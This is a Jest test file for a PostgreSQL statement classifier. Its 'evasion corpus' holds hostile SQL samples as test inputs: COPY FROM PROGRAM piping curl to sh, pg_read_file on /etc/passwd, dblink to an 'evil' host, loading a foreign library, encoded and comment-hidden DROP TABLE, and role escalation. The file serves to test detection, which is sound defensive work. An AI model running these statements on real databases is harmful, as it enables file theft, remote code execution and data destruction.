import { classifySql, initSqlParser } from './index';
import type { SqlStatementInfo } from './index';

beforeAll(async () => {
  await initSqlParser();
});

type Expected = Partial<SqlStatementInfo>;

/** One entry per top-level statement, compared with toMatchObject (arrays must match exactly). */
interface Case {
  readonly sql: string;
  readonly expect: readonly Expected[];
}

const read = (relations: string[], extra: Expected = {}): Expected => ({
  category: 'read',
  commands: ['select'],
  relationsRead: relations,
  relationsWritten: [],
  dynamic: false,
  ...extra,
});

// prettier-ignore
const corpus: Record<string, Case> = {
  // ---- comments, case, whitespace ----
  'line comment hides nothing': { sql: 'select * from t -- ; drop table t', expect: [read(['t'])] },
  'nested block comments': { sql: 'select /* a /* b; drop table x; */ c */ * from t', expect: [read(['t'])] },
  'comment between keywords': { sql: 'DE/**/LETE FROM t', expect: [] },
  'comment splitting statement': { sql: 'DELETE/* x */FROM/* y */t WHERE id = 1', expect: [{ commands: ['delete'], relationsWritten: ['t'], where: { present: true, alwaysTrue: false } }] },
  'mixed case and tabs': { sql: 'sElEcT\t*\n\nFrOm\tPuBlIc.UsErS', expect: [read(['public.users'])] },
  'keyword-cased table is folded': { sql: 'SELECT * FROM USERS', expect: [read(['users'], { unqualifiedRelations: true })] },

  // ---- quoting and Unicode escapes ----
  'quoted upper-case schema and table stay distinct': { sql: 'select * from "PUBLIC"."Users"', expect: [read(['"PUBLIC"."Users"'], { unqualifiedRelations: false })] },
  'quoted lower-case equals unquoted': { sql: 'select * from "public"."users"', expect: [read(['public.users'])] },
  'dot inside a quoted name is not a schema': { sql: 'select * from "public.users"', expect: [read(['"public.users"'], { unqualifiedRelations: true })] },
  'U& escaped table name resolves': { sql: 'select * from U&"\\0073ecret"', expect: [read(['secret'])] },
  'U& escaped word "drop" is just a table': { sql: 'select a from U&"\\0064rop"', expect: [read(['drop'])] },
  'U& escaped function name is still pg_read_file': { sql: `select U&"\\0070g_read_file"('/etc/passwd')`, expect: [read([], { functions: ['pg_read_file'], dangerousFunctions: ['pg_read_file'] })] },
  'pg_catalog prefix stripped': { sql: `select pg_catalog.pg_ls_dir('.')`, expect: [read([], { functions: ['pg_ls_dir'], dangerousFunctions: ['pg_ls_dir'] })] },
  'quoted upper-case function is another function': { sql: `select "PG_READ_FILE"('x')`, expect: [read([], { functions: ['"PG_READ_FILE"'], dangerousFunctions: [] })] },
  'dangerous function in any schema': { sql: `select ext.dblink_exec('host=x', 'drop table t')`, expect: [{ category: 'dynamic', dangerousFunctions: ['ext.dblink_exec'], dynamic: true, dynamicReasons: ['function:ext.dblink_exec'] }] },
  'three-part name': { sql: 'select * from db.s.t', expect: [read(['db.s.t'])] },

  // ---- multi-statement and transactions ----
  'select then drop': { sql: 'select 1; drop table x', expect: [read([]), { kind: 'DropStmt', category: 'ddl', commands: ['drop'], relationsWritten: ['x'], objectType: 'table' }] },
  'drop hidden after a string with a semicolon': { sql: `select ';--'; drop table x`, expect: [read([]), { commands: ['drop'], relationsWritten: ['x'] }] },
  'transaction wrapper': {
    sql: 'BEGIN; UPDATE accounts SET balance = 0; COMMIT',
    expect: [
      { kind: 'TransactionStmt', category: 'transaction', transaction: 'begin', commands: ['begin'] },
      { kind: 'UpdateStmt', category: 'write', relationsWritten: ['accounts'], where: { present: false, alwaysTrue: true } },
      { transaction: 'commit', commands: ['commit'] },
    ],
  },
  'start transaction / savepoint / rollback to': {
    sql: 'start transaction; savepoint s; rollback to savepoint s; end',
    expect: [{ transaction: 'begin' }, { transaction: 'savepoint' }, { transaction: 'rollback_to' }, { transaction: 'commit' }],
  },
  'prepare transaction': { sql: `prepare transaction 'gid'`, expect: [{ category: 'transaction', commands: ['prepare_transaction'] }] },

  // ---- strings ----
  'dollar quoted string is data': { sql: 'select $tag$ drop table x; $tag$ as a from t', expect: [read(['t'])] },
  'E string with escaped quote is data': { sql: `select E'\\'; drop table x; --' from t`, expect: [read(['t'])] },
  'standard string with backslash ends the literal': { sql: `select 'a\\'; drop table x; --'`, expect: [read([]), { commands: ['drop'], relationsWritten: ['x'] }] },

  // ---- CTEs ----
  'CTE delete under select': { sql: 'with d as (delete from t returning *) select * from d', expect: [{ category: 'write', commands: ['select', 'delete'], relationsWritten: ['t'], where: { present: false, alwaysTrue: true } }] },
  'CTE name shadows table': { sql: 'with users as (select 1 as id) select * from users', expect: [read([])] },
  'non-recursive CTE body reads the real table': { sql: 'with users as (select * from users) select * from users', expect: [read(['users'])] },
  'qualified name is never a CTE': { sql: 'with users as (select 1) select * from public.users', expect: [read(['public.users'])] },
  'DML target is never the CTE': { sql: 'with t as (select 1) delete from t', expect: [{ category: 'write', commands: ['delete', 'select'], relationsWritten: ['t'] }] },
  'COPY of a DELETE ... RETURNING': { sql: 'copy (delete from t returning *) to stdout', expect: [{ category: 'copy', commands: ['copy', 'delete'], relationsWritten: ['t'], where: { present: false, alwaysTrue: true } }] },
  'ALTER ROLE ... SET role': { sql: 'alter role agent set role = admin', expect: [{ category: 'dcl', commands: ['alter'], setsRole: true }] },
  'CTE insert with returning': { sql: 'with x as (insert into log values (1) returning id) select id from x', expect: [{ category: 'write', commands: ['select', 'insert'], relationsRead: ['log'], relationsWritten: ['log'] }] },

  // ---- MERGE, upsert ----
  'merge with all actions': {
    sql: 'merge into t using s on t.id = s.id when matched then delete when not matched then insert values (s.id) when matched and t.a > 1 then update set a = 1',
    expect: [{ kind: 'MergeStmt', category: 'write', commands: ['merge', 'delete', 'insert', 'update'], relationsRead: ['s', 't'], relationsWritten: ['t'], where: { present: true, alwaysTrue: false } }],
  },
  'merge on true': { sql: 'merge into t using s on true when matched then delete', expect: [{ where: { present: true, alwaysTrue: true } }] },
  'insert on conflict do update is an update': { sql: 'insert into t values (1) on conflict (id) do update set a = excluded.a', expect: [{ commands: ['insert', 'update'], relationsRead: ['t'], relationsWritten: ['t'] }] },
  'insert values is not a select': { sql: 'insert into t (a) values (1), (2)', expect: [{ commands: ['insert'], relationsRead: [], relationsWritten: ['t'] }] },
  'insert select reads the source': { sql: 'insert into t select * from u', expect: [{ commands: ['insert', 'select'], relationsRead: ['u'], relationsWritten: ['t'] }] },

  // ---- EXPLAIN ----
  'explain analyze runs the delete': { sql: 'explain analyze delete from t', expect: [{ kind: 'ExplainStmt', category: 'write', commands: ['explain', 'delete'], explainAnalyze: true, relationsWritten: ['t'] }] },
  'explain without analyze does not run it': { sql: 'explain delete from t', expect: [{ kind: 'ExplainStmt', category: 'read', commands: ['explain'], explainAnalyze: false, relationsRead: ['t'], relationsWritten: [] }] },
  'explain (analyze false)': { sql: 'explain (analyze false, costs off) delete from t', expect: [{ category: 'read', commands: ['explain'], explainAnalyze: false }] },
  'explain (analyze on)': { sql: 'explain (analyze on) update t set a = 1', expect: [{ category: 'write', commands: ['explain', 'update'], explainAnalyze: true }] },

  // ---- PREPARE / EXECUTE ----
  'prepare classifies its body': { sql: 'prepare p (int) as delete from t where id = $1', expect: [{ kind: 'PrepareStmt', category: 'write', commands: ['prepare', 'delete'], prepares: 'p', relationsWritten: ['t'], where: { present: true, alwaysTrue: false } }] },
  'execute points at the prepared statement': { sql: 'execute p(1)', expect: [{ kind: 'ExecuteStmt', commands: ['execute'], executes: 'p', dynamic: false, cacheable: false }] },
  'execute arguments are walked': { sql: `execute p(pg_read_file('/etc/passwd'))`, expect: [{ executes: 'p', dangerousFunctions: ['pg_read_file'] }] },

  // ---- DO blocks ----
  'DO with concatenated EXECUTE': { sql: `DO $$ BEGIN EXECUTE 'DROP TABLE ' || tbl; END $$`, expect: [{ kind: 'DoStmt', category: 'dynamic', commands: ['do', 'select'], dynamic: true, dynamicReasons: ['do-block', 'execute-nonconstant'] }] },
  'DO with format()': { sql: `DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$`, expect: [{ dynamic: true, functions: ['format'], dynamicReasons: ['do-block', 'execute-nonconstant'] }] },
  'DO with base64-decoded EXECUTE': { sql: `DO $$ BEGIN EXECUTE convert_from(decode('ZHJvcCB0YWJsZSB4', 'base64'), 'utf8'); END $$`, expect: [{ dynamic: true, functions: ['convert_from', 'decode'], dynamicReasons: ['do-block', 'execute-nonconstant'] }] },
  'DO with constant EXECUTE is analysed': { sql: `DO $$ BEGIN EXECUTE 'drop ' || 'table x'; END $$`, expect: [{ commands: ['do', 'drop'], relationsWritten: ['x'], dynamicReasons: ['do-block'] }] },
  'DO static SQL is reported': { sql: `DO $$ BEGIN DELETE FROM audit_log; PERFORM pg_sleep(5); END $$`, expect: [{ commands: ['do', 'delete', 'select'], relationsWritten: ['audit_log'], dangerousFunctions: ['pg_sleep'], where: { present: false, alwaysTrue: true } }] },
  'DO in single quotes': { sql: `do 'begin truncate t; end'`, expect: [{ commands: ['do', 'truncate'], relationsWritten: ['t'] }] },
  'DO in another language': { sql: `DO LANGUAGE plpython3u $$ import os $$`, expect: [{ dynamic: true, dynamicReasons: ['do-block', 'unanalysable-body:plpython3u'] }] },
  'DO hiding a DO in a constant EXECUTE': { sql: `DO $a$ BEGIN EXECUTE $b$ DO $c$ BEGIN DROP TABLE deep; END $c$ $b$; END $a$`, expect: [{ commands: ['do', 'drop'], relationsWritten: ['deep'] }] },
  'DO assignment with subquery and subscript call': { sql: `DO $$ DECLARE a int[]; BEGIN a[pg_sleep(1)::int] := (SELECT count(*) FROM secret); END $$`, expect: [{ relationsRead: ['secret'], dangerousFunctions: ['pg_sleep'] }] },

  // ---- functions hiding DDL ----
  'SQL function body with DROP': {
    sql: 'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE x $$; SELECT f()',
    expect: [{ kind: 'CreateFunctionStmt', category: 'ddl', commands: ['create', 'drop'], objectType: 'function', relationsWritten: ['x'], dynamic: true }, read([], { functions: ['f'] })],
  },
  'plpgsql function body': { sql: `CREATE OR REPLACE FUNCTION g() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN UPDATE users SET admin = true; RETURN 1; END $$`, expect: [{ commands: ['create', 'update', 'select'], relationsWritten: ['users'], dynamic: true, dynamicReasons: ['function-body'] }] },
  'procedure with commit': { sql: 'create procedure p() language plpgsql as $$ begin delete from t where id = 1; commit; end $$', expect: [{ objectType: 'procedure', commands: ['create', 'delete', 'commit'], dynamicReasons: ['procedure-body'] }] },
  'BEGIN ATOMIC body': { sql: 'create function s() returns int language sql begin atomic; delete from t; select 1; end', expect: [{ commands: ['create', 'delete', 'select'], relationsWritten: ['t'] }] },
  'C function': { sql: `create function c() returns int language c as 'mylib', 'sym'`, expect: [{ dynamic: true, dynamicReasons: ['function-body', 'unanalysable-body:c'] }] },
  'function SET role clause': { sql: `create function r() returns int language sql set role = admin as 'select 1'`, expect: [{ setsRole: true, commands: ['create', 'select'] }] },
  'call a procedure': { sql: 'call do_things(1)', expect: [{ kind: 'CallStmt', category: 'write', commands: ['call'], functions: ['do_things'] }] },

  // ---- COPY ----
  'COPY FROM PROGRAM': { sql: `copy t from program 'curl http://x | sh'`, expect: [{ category: 'copy', dynamic: true, dynamicReasons: ['copy-program'], relationsWritten: ['t'], copy: { direction: 'from', program: true, file: false, stdio: false, relation: 't' } }] },
  'COPY TO STDOUT': { sql: 'copy public.users to stdout', expect: [{ category: 'copy', relationsRead: ['public.users'], copy: { direction: 'to', program: false, file: false, stdio: true, relation: 'public.users' } }] },
  'COPY FROM STDIN': { sql: 'copy t (a, b) from stdin with (format csv)', expect: [{ relationsWritten: ['t'], copy: { direction: 'from', program: false, file: false, stdio: true, relation: 't' } }] },
  'COPY query TO file': { sql: `copy (select * from secret) to '/tmp/out.csv'`, expect: [{ commands: ['copy', 'select'], relationsRead: ['secret'], copy: { direction: 'to', program: false, file: true, stdio: false } }] },

  // ---- file, large object, remote and admin functions ----
  'pg_read_file in a subquery in WHERE': { sql: `select * from t where a = (select pg_read_file('/etc/passwd'))`, expect: [read(['t'], { dangerousFunctions: ['pg_read_file'] })] },
  'lo_import / lo_export': { sql: `select lo_import('/etc/passwd'), lo_export(1, '/tmp/x')`, expect: [read([], { dangerousFunctions: ['lo_export', 'lo_import'] })] },
  'pg_ls_dir in FROM': { sql: `select * from pg_ls_dir('/')`, expect: [read([], { dangerousFunctions: ['pg_ls_dir'] })] },
  'dblink in FROM': { sql: `select * from dblink('host=evil', 'select 1') as t(a int)`, expect: [{ category: 'dynamic', dynamic: true, dangerousFunctions: ['dblink'] }] },
  'query_to_xml with constant SQL': { sql: `select query_to_xml('select * from secret', true, true, '')`, expect: [{ category: 'dynamic', dynamic: true, relationsRead: ['secret'], dynamicReasons: ['function:query_to_xml'] }] },
  'terminate backend': { sql: 'select pg_terminate_backend(pid) from pg_stat_activity', expect: [read(['pg_stat_activity'], { dangerousFunctions: ['pg_terminate_backend'] })] },
  'function in ORDER BY of a window': { sql: 'select rank() over (order by pg_sleep(1)) from t', expect: [read(['t'], { dangerousFunctions: ['pg_sleep'] })] },
  'function in a column default': { sql: `alter table t alter column a set default pg_read_file('/x')`, expect: [{ category: 'ddl', relationsWritten: ['t'], dangerousFunctions: ['pg_read_file'] }] },

  // ---- roles and settings ----
  'SET ROLE': { sql: 'set role admin', expect: [{ category: 'session', commands: ['set_role'], setsRole: true, setting: 'role', cacheable: false }] },
  'SET "ROLE" (case-insensitive GUC)': { sql: 'SET "ROLE" TO admin', expect: [{ commands: ['set_role'], setsRole: true }] },
  'SET LOCAL ROLE in a transaction': { sql: 'begin; set local role admin; commit', expect: [{}, { setsRole: true }, {}] },
  'RESET ROLE': { sql: 'reset role', expect: [{ commands: ['set_role'], setsRole: true }] },
  'SET SESSION AUTHORIZATION': { sql: 'set session authorization postgres', expect: [{ commands: ['set_session_authorization'], setsRole: true }] },
  'set_config role': { sql: `select set_config('role', 'admin', false)`, expect: [{ category: 'session', setsRole: true, dangerousFunctions: ['set_config'], cacheable: false }] },
  'set_config other setting': { sql: `select set_config('statement_timeout', '0', false)`, expect: [{ category: 'read', setsRole: false, dangerousFunctions: ['set_config'] }] },
  'SET standard_conforming_strings changes lexing': { sql: 'set standard_conforming_strings = off', expect: [{ dynamic: true, dynamicReasons: ['lexer-setting:standard_conforming_strings'] }] },
  'SET NAMES is client_encoding': { sql: `set names 'SJIS'`, expect: [{ setting: 'client_encoding', dynamic: true }] },
  'plain SET': { sql: 'set statement_timeout = 0', expect: [{ category: 'session', commands: ['set'], setsRole: false, dynamic: false }] },

  // ---- cursors ----
  'DECLARE CURSOR reads': { sql: 'declare c cursor with hold for select * from secret', expect: [{ kind: 'DeclareCursorStmt', category: 'read', commands: ['declare', 'select'], cursor: true, cursorName: 'c', relationsRead: ['secret'] }] },
  'FETCH': { sql: 'fetch forward 10 from c', expect: [{ kind: 'FetchStmt', category: 'read', commands: ['fetch'], cursor: true, cursorName: 'c' }] },
  'UPDATE WHERE CURRENT OF': { sql: 'update t set a = 1 where current of c', expect: [{ where: { present: true, alwaysTrue: false } }] },

  // ---- other query shapes ----
  'TABLE t': { sql: 'TABLE secret', expect: [read(['secret'])] },
  'view reads and is ddl': { sql: 'create view v as select * from secret join t using (id)', expect: [{ category: 'ddl', commands: ['create', 'select'], objectType: 'view', relationsRead: ['secret', 't'], relationsWritten: ['v'] }] },
  'SELECT INTO creates a table': { sql: 'select * into newt from t', expect: [{ category: 'ddl', commands: ['select', 'create'], objectType: 'table', relationsRead: ['t'], relationsWritten: ['newt'] }] },
  'CREATE TABLE AS': { sql: 'create table x as select * from t', expect: [{ category: 'ddl', commands: ['create', 'select'], relationsRead: ['t'], relationsWritten: ['x'] }] },
  'SELECT FOR UPDATE locks': { sql: 'select * from t join u on t.id = u.id for update of t', expect: [{ category: 'write', commands: ['select', 'select_for_update'], rowLocks: true, relationsRead: ['t', 'u'], relationsWritten: ['t', 'u'] }] },
  'set operation arms': { sql: 'select a from t union all select a from u except select a from v', expect: [read(['t', 'u', 'v'])] },
  'LATERAL and sub-selects everywhere': { sql: 'select (select max(a) from s) from t, lateral (select * from u where u.a = t.a) x where exists (select 1 from r)', expect: [read(['r', 's', 't', 'u'], { functions: ['max'] })] },
  'rule with a hidden delete': { sql: 'create rule r as on insert to t do also delete from audit', expect: [{ category: 'ddl', commands: ['create', 'delete'], objectType: 'rule', relationsWritten: ['audit', 't'] }] },
  'LOCK TABLE': { sql: 'lock table t in access exclusive mode', expect: [{ category: 'write', commands: ['lock'], relationsWritten: ['t'] }] },
  'TRUNCATE': { sql: 'truncate a, s.b', expect: [{ category: 'write', commands: ['truncate'], relationsWritten: ['a', 's.b'] }] },
  'VACUUM': { sql: 'vacuum full t', expect: [{ category: 'utility', commands: ['vacuum'] }] },
  'ALTER SYSTEM': { sql: `alter system set archive_command = 'sh -c x'`, expect: [{ category: 'ddl', commands: ['alter'], objectType: 'system' }] },
  'LISTEN / NOTIFY': { sql: `listen ch; notify ch, 'x'`, expect: [{ category: 'utility', commands: ['listen'] }, { category: 'utility', commands: ['notify'] }] },
  'CREATE EXTENSION': { sql: 'create extension dblink', expect: [{ category: 'ddl', objectType: 'extension', dynamic: true, dynamicReasons: ['extension-script'] }] },
  'LOAD': { sql: `load '/tmp/evil.so'`, expect: [{ commands: ['load'], dynamic: true, dynamicReasons: ['load-library'] }] },
  'IMPORT FOREIGN SCHEMA': { sql: 'import foreign schema s from server srv into public', expect: [{ category: 'ddl', commands: ['import'] }] },
  'SECURITY LABEL': { sql: `security label on table t is 'secret'`, expect: [{ category: 'dcl', commands: ['security_label'], relationsWritten: ['t'] }] },
  'REFRESH MATERIALIZED VIEW': { sql: 'refresh materialized view concurrently s.mv', expect: [{ category: 'write', commands: ['refresh'], relationsWritten: ['s.mv'] }] },
  'GRANT on tables': { sql: 'grant select on t, s.u to bob', expect: [{ category: 'dcl', commands: ['grant'], objectType: 'table', relationsWritten: ['s.u', 't'] }] },
  'GRANT role': { sql: 'grant pg_read_server_files to agent', expect: [{ category: 'dcl', commands: ['grant'], objectType: 'role' }] },
  'DROP trigger names its table': { sql: 'drop trigger tr on s.t', expect: [{ objectType: 'trigger', relationsWritten: ['s.t'] }] },
  'DISCARD ALL resets the session user': { sql: 'discard all', expect: [{ category: 'session', setsRole: true }] },
};

describe('classifySql evasion corpus', () => {
  it('has at least 60 cases', () => {
    expect(Object.keys(corpus).length).toBeGreaterThanOrEqual(60);
  });

  it.each(Object.entries(corpus))('%s', (_name, { sql, expect: expected }) => {
    const result = classifySql(sql);
    if (expected.length === 0) {
      expect(result.ok).toBe(false);
      return;
    }
    expect(result.error).toBeUndefined();
    expect(result.ok).toBe(true);
    expect(result.statements).toHaveLength(expected.length);
    expected.forEach((e, i) => expect(result.statements[i]).toMatchObject(e));
  });
});

describe('classifySql failures', () => {
  it.each([
    ['garbage', 'this is not sql'],
    ['unterminated string', `select 'abc`],
    ['unterminated comment', 'select 1 /* never closed'],
    ['NUL byte that would truncate the text', 'select 1\0; drop table x'],
  ])('%s is not ok, with an error', (_name, sql) => {
    const result = classifySql(sql);
    expect(result).toMatchObject({ ok: false, statements: [], fingerprint: '', cacheable: false });
    expect(result.error).toEqual(expect.any(String));
  });

  it('rejects more statements than the limit', () => {
    expect(classifySql('select 1; select 2; select 3', { maxStatements: 2 })).toMatchObject({ ok: false });
    expect(classifySql('select 1;'.repeat(1001))).toMatchObject({ ok: false });
    expect(classifySql('select 1;'.repeat(1000))).toMatchObject({ ok: true });
  });

  it('rejects text over the size limit', () => {
    expect(classifySql('select 1', { maxBytes: 4 })).toMatchObject({ ok: false });
    expect(classifySql('select 1', { maxBytes: 8 })).toMatchObject({ ok: true });
  });

  it('rejects a tree too deep to walk without throwing', () => {
    const sql = `select ${'(select '.repeat(1500)}1${')'.repeat(1500)}`;
    expect(classifySql(sql)).toMatchObject({ ok: false });
  });

  it('accepts empty input as no statements', () => {
    expect(classifySql('  -- nothing\n')).toMatchObject({ ok: true, statements: [] });
  });

  it('never throws for a non-string', () => {
    expect(classifySql(42 as unknown as string)).toMatchObject({ ok: false });
  });
});
